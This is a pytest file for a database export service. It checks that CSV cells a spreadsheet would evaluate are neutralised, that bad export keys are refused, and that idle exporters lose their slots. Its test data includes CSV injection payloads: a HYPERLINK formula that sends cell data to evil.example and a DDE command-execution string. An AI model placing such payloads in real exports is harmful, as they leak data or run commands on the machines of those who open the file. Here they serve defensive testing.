"""Exports that cannot hurt who opens them or starve who comes next: CSV cells neutralised
(OWASP CSV injection), export keys checked (NULL and duplicate keys), and export slots that
free themselves when a reader stops reading."""

from __future__ import annotations

import csv
import io
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import asyncpg
import httpx
import pytest

from tests.support import eventually

Start = Callable[..., Any]

CELLS = """-- Values a spreadsheet would evaluate, beside ones it would not.
-- export: order by id
SELECT id, label, amount FROM public.cells
"""
NULL_KEY = """-- A UNIQUE but nullable key.
-- export: order by code
SELECT code, n FROM public.coded
"""
DUPLICATE_KEY = """-- A key that is not unique.
-- export: order by grp
SELECT grp, n FROM public.coded WHERE grp IS NOT NULL
"""
ENDLESS = """-- Two million generated rows: far more than socket buffers hold.
SELECT g AS id, md5(g::text) AS h FROM generate_series(1, 2000000) g
"""
LATE_DUPLICATE = """-- A key that repeats only at row 5000, after the first batch has gone out.
-- export: order by id
SELECT CASE WHEN g = 5000 THEN 4999 ELSE g END AS id FROM generate_series(1, 10000) g
"""
GOOD_KEY = """-- A NOT NULL unique key.
-- export: order by n
SELECT n, code FROM public.coded
"""
LABELS = {
    1: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    2: "=cmd|' /C calc'!A0",
    3: "+1+2",
    4: "-5",
    5: "@SUM(1,2)",
    6: "\tindented",
    7: "\rcarriage",
    8: "plain",
    9: "'quoted already",
    10: "#hash",
    11: "a=b",
}


@pytest.fixture
async def cells_dir(conn: asyncpg.Connection, tmp_path: Path) -> Path:
    await conn.execute("""
        CREATE TABLE public.cells (id int PRIMARY KEY, label text, amount numeric);
        CREATE TABLE public.coded (n int PRIMARY KEY, code text UNIQUE, grp text);
        INSERT INTO public.coded VALUES (1, 'a', 'x'), (2, 'b', 'x'), (3, 'c', 'y'),
                                        (4, NULL, 'y'), (5, NULL, 'z');
        GRANT SELECT ON public.cells, public.coded TO pgsse_reader;
    """)
    await conn.executemany("INSERT INTO public.cells VALUES ($1, $2, $3)",
                           [(i, label, -i) for i, label in LABELS.items()])
    directory = tmp_path / "aggregates"
    directory.mkdir()
    for name, sql in {"cells": CELLS, "null_key": NULL_KEY, "duplicate_key": DUPLICATE_KEY,
                      "good_key": GOOD_KEY, "endless": ENDLESS,
                      "late_duplicate": LATE_DUPLICATE}.items():
        (directory / f"{name}.sql").write_text(sql)
    return directory


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(
        start_server: Start, cells_dir: Path) -> None:
    server = start_server({"AGGREGATES_DIR": str(cells_dir)})
    response = httpx.get(f"{server.url}/aggregates/cells", params={"format": "csv"}, timeout=30)
    assert response.status_code == 200
    assert response.headers["x-export-csv-safe"] == "true"
    rows = rows_of(response.content)
    assert rows[0] == ["id", "label", "amount"]
    got = {int(row[0]): (row[1], row[2]) for row in rows[1:]}
    for i, label in LABELS.items():
        # A cell starting with = + - @ TAB CR (or ' itself, so the rule can be undone) gets a
        # leading '; everything else is as stored; numbers stay numbers (-1 is not touched).
        expected = "'" + label if label[0] in "=+-@\t\r'" else label
        assert got[i] == (expected, str(-i)), (i, got[i])
    # Turned off for machine consumers: the values as they are.
    raw_server = start_server({"AGGREGATES_DIR": str(cells_dir), "EXPORT_CSV_SAFE": "0"})
    raw = httpx.get(f"{raw_server.url}/aggregates/cells", params={"format": "csv"}, timeout=30)
    assert "x-export-csv-safe" not in raw.headers
    assert {int(row[0]): row[1] for row in rows_of(raw.content)[1:]} == LABELS
    # NDJSON carries JSON strings: nothing to neutralise.
    ndjson = httpx.get(f"{server.url}/aggregates/cells", params={"format": "ndjson"}, timeout=30)
    assert '"label": "=cmd|\' /C calc\'!A0"' in ndjson.text.replace('":"', '": "')


def test_nullable_or_duplicate_export_keys_are_refused_naming_the_file(
        start_server: Start, cells_dir: Path) -> None:
    server = start_server({"AGGREGATES_DIR": str(cells_dir)})
    for name, params in [("null_key", {}), ("null_key", {"after": '["a"]'}),
                         ("null_key", {"after": '["c"]'}), ("duplicate_key", {}),
                         ("duplicate_key", {"after": '["x"]'})]:
        response = httpx.get(f"{server.url}/aggregates/{name}",
                             params={"format": "csv", **params}, timeout=30)
        # Never a 200 with rows silently missing: a clear error naming the file and the key.
        assert response.status_code == 500, (name, params, response.status_code, response.text)
        error = response.json()["error"]
        assert error["code"] == "export_key_not_unique", error
        assert f"{name}.sql" in error["message"], error
    # A good key still resumes exactly after the row it names.
    good = httpx.get(f"{server.url}/aggregates/good_key",
                     params={"format": "csv", "after": "2"}, timeout=30)
    assert good.status_code == 200
    assert rows_of(good.content) == [["n", "code"], ["3", "c"], ["4", ""], ["5", ""]]


def test_a_key_that_repeats_mid_stream_ends_the_export_with_a_marker(
        start_server: Start, cells_dir: Path) -> None:
    server = start_server({"AGGREGATES_DIR": str(cells_dir)})
    got = bytearray()
    with pytest.raises(httpx.RemoteProtocolError):  # the chunked body never ends
        with httpx.stream("GET", f"{server.url}/aggregates/late_duplicate",
                          params={"format": "csv"}, timeout=30) as response:
            assert response.status_code == 200
            for chunk in response.iter_bytes():
                got += chunk
    lines = bytes(got).split(b"\r\n")
    assert lines[-1] == b""
    # Every row up to the repeat, then the marker naming the file; nothing after it.
    assert lines[1:-2] == [str(i).encode() for i in range(1, 5000)]
    assert lines[-2].startswith(b"#pgsse-export-error code=export_key_not_unique rows=4999 ")
    assert b"late_duplicate.sql" in lines[-2]


def test_head_validates_after_like_get(start_server: Start, cells_dir: Path) -> None:
    server = start_server({"AGGREGATES_DIR": str(cells_dir)})
    url = f"{server.url}/aggregates/good_key"
    for after in ("not-a-number", "[1.5]", "99999999999999999999999", "[1, 2]"):
        params = {"format": "csv", "after": after}
        get = httpx.get(url, params=params, timeout=30)
        head = httpx.head(url, params=params, timeout=30)
        assert get.status_code == 400, (after, get.text)
        assert head.status_code == 400, (after, head.status_code)
    assert httpx.head(url, params={"format": "csv", "after": "3"}, timeout=30).status_code == 200


def test_the_cli_undoes_the_neutralisation_for_its_resume_key() -> None:
    from service.export_cli import after_value

    header, last = b"code,'=n\r\n", b"'-5,'=1+2\r\n"
    assert after_value("csv", ["code", "=n"], header, last, csv_safe=True) == '["-5","=1+2"]'
    assert after_value("csv", ["code"], b"code\r\n", b"''quoted\r\n", csv_safe=True) == '["\'quoted"]'
    assert after_value("csv", ["code"], b"code\r\n", b"-5\r\n") == '["-5"]'


def stuck_exporter(port: int, source: str) -> socket.socket:
    """A client that asks for a big export and never reads a byte of it."""
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.bind((source, 0))
    sock.connect(("127.0.0.1", port))
    sock.sendall(b"GET /aggregates/endless?format=csv HTTP/1.1\r\nHost: x\r\n\r\n")
    return sock


async def test_exporters_that_never_read_free_their_slots(
        start_server: Start, cells_dir: Path) -> None:
    idle = 2.0
    server = start_server({"AGGREGATES_DIR": str(cells_dir), "EXPORT_IDLE_SECONDS": f"{idle}s"})
    url = f"{server.url}/aggregates/cells"
    # Four clients (four addresses: the per-client limit is 2) take every slot, never reading.
    stuck = [stuck_exporter(server.port, f"127.0.0.{i}") for i in range(2, 6)]
    try:
        def full() -> bool:
            return httpx.get(url, params={"format": "csv"}, timeout=10).status_code == 429

        await eventually(full, timeout=20, what="all four slots taken")
        blocked_at = time.monotonic()

        def served() -> bool:
            return httpx.get(url, params={"format": "csv"}, timeout=10).status_code == 200

        # The slots come back once the readers have made no progress for EXPORT_IDLE_SECONDS.
        await eventually(served, timeout=idle + 10, interval=0.2, what="a fifth export served")
        assert time.monotonic() - blocked_at < idle + 10
        await eventually(lambda: server.logs().count('"export_idle"') == 4, timeout=idle + 10,
                         what="all four stuck exports ended")
        # Their sockets were reset: reading now ends (after what the kernel had buffered).
        for sock in stuck:
            sock.settimeout(10)
            with pytest.raises(ConnectionResetError):
                while sock.recv(65536):
                    pass
    finally:
        for sock in stuck:
            sock.close()


async def test_one_client_gets_at_most_its_share_of_export_slots(
        start_server: Start, cells_dir: Path) -> None:
    server = start_server({"AGGREGATES_DIR": str(cells_dir), "EXPORT_MAX_PER_CLIENT": "2"})
    stuck = [stuck_exporter(server.port, "127.0.0.2") for _ in range(2)]
    try:
        url = f"{server.url}/aggregates/endless"

        def refused() -> httpx.Response | None:
            with socket.socket() as probe:  # from 127.0.0.2 too
                probe.bind(("127.0.0.2", 0))
                probe.connect(("127.0.0.1", server.port))
                probe.sendall(b"GET /aggregates/cells?format=csv HTTP/1.1\r\nHost: x\r\n"
                              b"Connection: close\r\n\r\n")
                probe.settimeout(10)
                head = probe.recv(4096)
            return head.startswith(b"HTTP/1.1 429")  # type: ignore[return-value]

        await eventually(refused, timeout=20, what="a third export from one client refused")
        # Another client still gets one.
        with httpx.stream("GET", url, params={"format": "csv"}, timeout=10) as other:
            assert other.status_code == 200
    finally:
        for sock in stuck:
            sock.close()
